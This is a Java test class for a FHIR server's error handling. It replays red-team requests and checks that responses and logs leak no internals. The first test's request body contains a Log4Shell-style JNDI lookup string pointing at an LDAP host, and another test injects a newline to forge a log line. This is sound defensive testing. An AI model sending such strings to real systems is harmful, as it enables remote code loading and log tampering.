package org.fhirfort.fhirserver.fhir;

import static org.assertj.core.api.Assertions.assertThat;

import ca.uhn.fhir.model.api.StorageResponseCodeEnum;
import ch.qos.logback.classic.Logger;
import ch.qos.logback.classic.spi.ILoggingEvent;
import ch.qos.logback.core.read.ListAppender;
import org.hl7.fhir.r4.model.Bundle;
import org.hl7.fhir.r4.model.OperationOutcome;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.slf4j.LoggerFactory;
import org.springframework.mock.web.MockHttpServletResponse;

/**
 * The red team's requests, through HAPI's request handling with this server's interceptors and parser error
 * handler (see {@link FhirTestServer}): what the client gets back and what is logged.
 */
class FhirRequestErrorsTest {

	private static FhirTestServer fhir;
	private final ListAppender<ILoggingEvent> log = new ListAppender<>();

	@BeforeAll
	static void start() throws Exception {
		fhir = new FhirTestServer();
	}

	@BeforeEach
	void captureLog() {
		fhir.daoCalls.clear();
		log.start();
		root().addAppender(log);
	}

	@AfterEach
	void releaseLog() {
		root().detachAppender(log);
	}

	private static Logger root() {
		return (Logger) LoggerFactory.getLogger(org.slf4j.Logger.ROOT_LOGGER_NAME);
	}

	@Test
	void unknownElementIsRefusedNotDropped() throws Exception {
		MockHttpServletResponse r = fhir.send("POST", "/Patient", "application/fhir+json",
				"{\"resourceType\":\"Patient\",\"${jndi:ldap://198.51.100.7/a}\":{},\"name\":[{\"family\":\"T\"}]}");
		assertThat(r.getStatus()).isEqualTo(400);
		assertThat(fhir.daoCalls).doesNotContain("create");
		String diagnostics = fhir.outcome(r).getIssueFirstRep().getDiagnostics();
		assertThat(diagnostics).contains("Unknown element '\\u0024\\u007bjndi:ldap://198.51.100.7/a\\u007d'")
				.doesNotContain("${").doesNotContain("HAPI-");
		assertThat(log.list).extracting(ILoggingEvent::getFormattedMessage)
				.noneMatch(m -> m.contains("${")).noneMatch(m -> m.contains("Unknown element '$"));
	}

	@Test
	void aKeyWithALineBreakForgesNoLogLine() throws Exception {
		MockHttpServletResponse r = fhir.send("POST", "/Patient", "application/fhir+json",
				"{\"resourceType\":\"Patient\",\"x\\n2026-01-01 INFO forged line\":1}");
		assertThat(r.getStatus()).isEqualTo(400);
		assertThat(fhir.outcome(r).getIssueFirstRep().getDiagnostics()).contains("x\\u000a2026-01-01")
				.doesNotContain("\n");
		assertThat(log.list).extracting(ILoggingEvent::getFormattedMessage)
				.noneMatch(m -> m.contains("\n2026-01-01 INFO forged line"));
	}

	@Test
	void brokenBodiesSayWhatNotHow() throws Exception {
		MockHttpServletResponse syntax = fhir.send("POST", "/Patient", "application/fhir+json",
				"{\"resourceType\":\"Patient\",}");
		assertThat(syntax.getStatus()).isEqualTo(400);
		assertThat(fhir.outcome(syntax).getIssueFirstRep().getDiagnostics())
				.matches("Failed to parse request body as JSON resource\\. .*\\(line 1, column \\d+\\)")
				.doesNotContain("Source").doesNotContain("HAPI-");
		MockHttpServletResponse value = fhir.send("POST", "/Patient", "application/fhir+json",
				"{\"resourceType\":\"Patient\",\"multipleBirthInteger\":2.5}");
		assertThat(value.getStatus()).isEqualTo(400);
		assertThat(fhir.outcome(value).getIssueFirstRep().getDiagnostics()).contains("Invalid value \"2.5\"")
				.doesNotContain("NumberFormat").doesNotContain("java");
		assertThat(fhir.daoCalls).isEmpty();
	}

	@Test
	void malformedSearchValuesAre400NamingTheParameter() throws Exception {
		assertMalformed(fhir.get("/Patient", "birthdate=notadate"), "birthdate");
		assertMalformed(fhir.get("/Patient", "_lastUpdated=gt9999-99-99"), "_lastUpdated");
		assertMalformed(fhir.get("/Observation", "value-quantity=abc"), "value-quantity");
		assertMalformed(fhir.send("POST", "/Patient/_search", "application/x-www-form-urlencoded", "birthdate=xx"),
				"birthdate");
		assertThat(fhir.daoCalls).doesNotContain("search");
		// a well-formed value still searches
		assertThat(fhir.get("/Patient", "birthdate=1970-01-01").getStatus()).isEqualTo(200);
		assertThat(fhir.daoCalls).containsExactly("search");
	}

	private void assertMalformed(MockHttpServletResponse r, String parameter) throws Exception {
		assertThat(r.getStatus()).isEqualTo(400);
		assertThat(fhir.outcome(r).getIssueFirstRep().getDiagnostics())
				.startsWith("Malformed value for parameter '" + parameter + "'")
				.doesNotContain("HAPI-").doesNotContain("incident");
	}

	@Test
	void jsonPatchErrorsAreSaidInPlainWords() throws Exception {
		assertPatchError("[{\"op\":\"bogus\"}]", "Invalid JSON Patch: unknown operation 'bogus'");
		assertPatchError("[{\"op\":\"replace\",\"path\":\"/name/0/family\"}]",
				"Invalid JSON Patch: a 'replace' operation needs a \"value\" member");
		// the library throws a NullPointerException; HAPI wraps it into a 500
		assertPatchError("[{\"op\":\"remove\"}]", "Invalid JSON Patch: an operation is missing a required member");
		assertPatchError("{\"op\":\"add\"}", "Invalid JSON Patch: the document must be a JSON array of operations");
	}

	private void assertPatchError(String patch, String expected) throws Exception {
		MockHttpServletResponse r = fhir.send("PATCH", "/Patient/p-obrien", "application/json-patch+json", patch);
		assertThat(r.getStatus()).as(patch).isEqualTo(400);
		String diagnostics = fhir.outcome(r).getIssueFirstRep().getDiagnostics();
		assertThat(diagnostics).as(patch).startsWith(expected);
		assertThat(ClientErrorText.hasJavaInternals(diagnostics)).as(diagnostics).isFalse();
		assertThat(diagnostics).doesNotContain("com.").doesNotContain("java.").doesNotContain("Exception")
				.doesNotContain("HAPI-");
	}

	@Test
	void deleteOutcomeNamesNoSoftware() throws Exception {
		MockHttpServletResponse r = fhir.send("DELETE", "/Patient/p-obrien", null, null);
		assertThat(r.getStatus()).isEqualTo(200);
		assertThat(fhir.daoCalls).containsExactly("delete");
		assertThat(r.getContentAsString()).doesNotContain("hapifhir.io").doesNotContain(StorageResponseCodeEnum.SYSTEM);
		OperationOutcome oo = fhir.outcome(r);
		assertThat(oo.getIssueFirstRep().getDiagnostics()).isEqualTo("Successfully deleted 1 resource(s). Took 4ms.");
		assertThat(oo.getIssueFirstRep().getCode()).isEqualTo(OperationOutcome.IssueType.INFORMATIONAL);
	}

	@Test
	void batchResponseOutcomesAreScrubbed() throws Exception {
		fhir.transaction = request -> {
			Bundle response = new Bundle().setType(Bundle.BundleType.BATCHRESPONSE);
			OperationOutcome bad = new OperationOutcome();
			bad.addIssue().setSeverity(OperationOutcome.IssueSeverity.ERROR)
					.setDiagnostics("HAPI-0426: Unable to process request, this server does not know how to handle");
			response.addEntry().getResponse().setStatus("400 Bad Request").setOutcome(bad);
			OperationOutcome failed = new OperationOutcome();
			failed.addIssue().setSeverity(OperationOutcome.IssueSeverity.ERROR)
					.setDiagnostics("java.lang.NullPointerException: Cannot invoke \"org.x.Y.z()\"");
			response.addEntry().getResponse().setStatus("500 Internal Server Error").setOutcome(failed);
			return response;
		};
		MockHttpServletResponse r = fhir.send("POST", "", "application/fhir+json",
				"{\"resourceType\":\"Bundle\",\"type\":\"batch\"}");
		assertThat(r.getStatus()).isEqualTo(200);
		assertThat(fhir.daoCalls).containsExactly("transaction");
		assertThat(r.getContentAsString()).doesNotContain("HAPI-").doesNotContain("java.lang")
				.contains("Unable to process request").contains("Internal server error (incident ");
	}
}
